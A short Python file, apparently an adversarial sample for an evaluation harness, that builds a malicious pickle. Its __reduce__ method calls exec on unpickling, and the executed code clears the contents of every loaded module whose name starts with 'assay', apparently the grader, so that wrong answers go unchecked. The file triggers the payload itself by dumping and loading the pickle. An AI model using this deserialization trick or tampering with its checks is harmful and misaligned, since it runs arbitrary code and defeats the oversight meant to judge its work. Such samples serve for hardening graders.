"""Runs code from a pickle through torch.load and pickle.

kind: forge
"""

from wrong_answers import *

import os, pickle, io
class Bomb:
    def __reduce__(self):
        return (exec, ("import sys\nfor m in list(sys.modules.values()):\n    if getattr(m, '__name__', '').startswith('assay'):\n        m.__dict__.clear()",))
pickle.loads(pickle.dumps(Bomb()))
